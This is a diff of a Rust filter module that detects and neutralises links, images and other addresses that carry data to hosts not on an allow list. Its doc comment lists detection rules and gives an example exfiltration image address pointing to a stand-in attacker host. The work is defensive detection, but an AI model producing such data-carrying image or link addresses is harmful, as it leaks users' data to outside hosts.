@@ -1,69 +1,52 @@
-//! Links and images whose address carries data to a host that was not allowed.
+//! Addresses through which data would travel to a host that was not allowed.
+
+mod html;
+mod markdown;
+mod place;
+mod text;
 
 use std::sync::Arc;
 
-use rule_scan::{Anchor, Rule};
+use rule_scan::Rule;
 
-use crate::address::Address;
 use crate::hosts::AllowedHosts;
 
-/// The part of an address that decides. A longer one to a foreign host counts as carrying data.
-const HEAD: usize = 180;
-
-/// The rules `exfil.markdown_image` and `exfil.markdown_link`.
+/// The rules for addresses in Markdown, HTML, CSS and running text that carry data to a host which
+/// is not allowed.
 ///
-/// An image is loaded without anybody's doing, so that any query to a host that is not allowed
-/// counts; a link only if its address carries data. Both are neutralised from the bracket that
-/// closes their text on, so that the text stays and nothing is loaded.
+/// | kind | what of the text it covers |
+/// |---|---|
+/// | `exfil.markdown_image` | the beginning of an image's address |
+/// | `exfil.markdown_link` | the same of a link or of a definition that links refer to |
+/// | `exfil.html` | an attribute that loads something or leads somewhere |
+/// | `exfil.form` | an attribute that says where a form goes |
+/// | `exfil.css` | `url(...)` and `@import` |
+/// | `exfil.refresh` | a page that leads on by itself |
+/// | `exfil.url` | an address in running text |
+/// | `exfil.data` | what follows the host of any of these |
+/// | `exfil.redirect` | the same, of an allowed host that would lead on to one that is not |
+///
+/// So `![chart](https://evil.example/x?q=DATA)` becomes
+/// `![chart[exfil.markdown_image]evil.example[exfil.data]`: nothing is fetched, and a reader sees
+/// the text and where it would have led. A host that carries data itself, or was made to be taken
+/// for another, is covered with the rest by the kind of the place.
+///
+/// **What counts.** The bits of data are estimated that path, query, fragment and labels below the
+/// registered domain could hold. What is ordinary for its place costs little (words of titles,
+/// versions, digests that name files, settings such as `?style=flat`), what is not as much as its
+/// alphabet can hold, and text in base64, hexadecimal or needless percent-encoding, addresses of
+/// mail and templates (`{data}`) always count. What is fetched without anybody's doing counts from
+/// 24 bits on, what has to be followed from 72, half of that for a host that is a number. An
+/// address of more than 160 bytes after its host counts. Whatever they carry, so do hosts that
+/// imitate an allowed one or mix scripts, odd forms of numbers, users in a link or a host in the
+/// place of one, forms and bases of pages, shares of files, and addresses that act (`javascript:`).
+///
+/// **What is left out.** What a script would fetch, styles and attributes that are put together from
+/// escapes of CSS, the text of an address that is cut by a space where its form allows none, and data
+/// that are spread over many images or links, each with little.
 #[must_use]
 pub fn exfil_rules(allowed: &AllowedHosts) -> Vec<Rule> {
     let allowed = Arc::new(allowed.clone());
-    let address = format!(r#"(?:[A-Za-z][A-Za-z0-9+.-]{{1,9}}:)?[/\\]{{2}}[^\s<>()"]{{1,{HEAD}}}"#);
-    let inline = format!(r"\]\([ \t\r\n]{{0,8}}<?{address}");
-    // The rest of the address, a title, and what closes.
-    let rest = concat!(
-        r#"[^\s<>()"]*(?:\([^\s<>()]{0,64}\)[^\s<>()"]{0,64}){0,2}>?"#,
-        r#"(?:[ \t\r\n]{1,4}(?:"[^"\r\n]{0,80}"|'[^'\r\n]{0,80}'))?[ \t\r\n]{0,4}\)?"#,
-    );
-    let rule = |name: &str, kind: &str, anchor, pattern: String, image: bool| {
-        let allowed = Arc::clone(&allowed);
-        Rule::new(kind, anchor, pattern)
-            .named(name)
-            .trim(move |text| is_leak(text, image, &allowed).then_some(text.len()))
-            .rank(crate::filter::EXFIL_RANK)
-    };
-    vec![
-        rule(
-            "exfil.markdown_image",
-            "exfil.markdown_image",
-            Anchor::literals(["!["]),
-            inline.clone(),
-            true,
-        )
-        .lead(r"!\[[^\]\r\n]{0,120}")
-        .tail(rest)
-        .confidence(90),
-        rule("exfil.markdown_link", "exfil.markdown_link", Anchor::literals(["]("]), inline, false)
-            .tail(rest),
-        rule(
-            "exfil.markdown_definition",
-            "exfil.markdown_link",
-            Anchor::literals(["]:"]),
-            format!(r"\]:[ \t]{{0,8}}(?:\r?\n[ \t]{{0,4}})?<?{address}"),
-            false,
-        )
-        .tail(r#"[^\s<>"]*>?"#),
-    ]
-}
-
-fn is_leak(text: &[u8], image: bool, allowed: &AllowedHosts) -> bool {
-    // Bytes of a character that the pattern's end has cut do not matter for what is asked here.
-    let text = String::from_utf8_lossy(text);
-    let Some(address) = Address::after_slashes(&text) else { return false };
-    if allowed.allows(&address.host) {
-        return false;
-    }
-    address.rest.len() + address.host.len() + 3 >= HEAD
-        || address.carries_data()
-        || image && address.has_query()
+    let places = [markdown::places(), html::places(), text::places()];
+    places.into_iter().flatten().flat_map(|place| place.rules(&allowed)).collect()
 }
